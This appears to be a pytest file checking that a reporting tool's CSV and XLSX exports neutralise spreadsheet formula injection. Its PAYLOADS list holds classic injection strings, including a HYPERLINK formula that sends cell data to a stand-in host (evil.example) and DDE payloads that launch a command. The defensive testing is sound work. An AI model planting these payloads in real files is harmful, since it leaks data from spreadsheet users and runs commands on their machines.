"""Text a person wrote never becomes a live formula in the XLSX or CSV files (OWASP CSV injection advice)."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from peerplan.reports.compose import ReportInput
from peerplan.reports.cover import Cover
from peerplan.reports.renderers import render
from peerplan.reports.renderers.safe_cells import safe_csv_row, safe_text
from peerplan.reports.snapshot import Snapshot

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2, "Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_starting_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


def test_ordinary_text_numbers_and_dates_are_left_alone() -> None:
    from datetime import date

    assert safe_csv_row(["Agree the budget", 3, None, date(2025, 9, 30), "50% done"]) == [
        "Agree the budget",
        3,
        "",
        "2025-09-30",
        "50% done",
    ]


def _poisoned(snapshot: Snapshot) -> ReportInput:
    """Every text a person wrote in the plan starts with one of the payloads."""
    recs = []
    for i, rec in enumerate(snapshot.recommendations):
        actions = tuple(
            replace(
                a,
                text=PAYLOADS[(i + j) % len(PAYLOADS)],
                commentary=PAYLOADS[(i + j + 1) % len(PAYLOADS)],
                timescale=PAYLOADS[(i + j + 2) % len(PAYLOADS)],
                owners=(PAYLOADS[(i + j + 3) % len(PAYLOADS)],),
                evidence=(PAYLOADS[(i + j + 4) % len(PAYLOADS)],),
                ref=PAYLOADS[(i + j + 5) % len(PAYLOADS)],
            )
            for j, a in enumerate(rec.actions)
        )
        recs.append(
            replace(rec, text=PAYLOADS[i % len(PAYLOADS)], ref=PAYLOADS[(i + 1) % len(PAYLOADS)], actions=actions)
        )
    poisoned = replace(snapshot, recommendations=tuple(recs), organisation="=1+1", review_title="@SUM(A1)")
    return ReportInput(snapshot=poisoned, cover=Cover(meeting="Cabinet"))


def test_the_workbook_holds_no_formula_and_keeps_the_words_exactly(snapshot_q2: Snapshot) -> None:
    data = render(_poisoned(snapshot_q2), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    # The officers' words are kept as written (no apostrophe added), just never run.
    assert set(PAYLOADS) <= set(texts)


def test_the_csv_file_starts_no_cell_with_a_formula_character(snapshot_q2: Snapshot) -> None:
    text = render(_poisoned(snapshot_q2), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + PAYLOADS[0] in cells
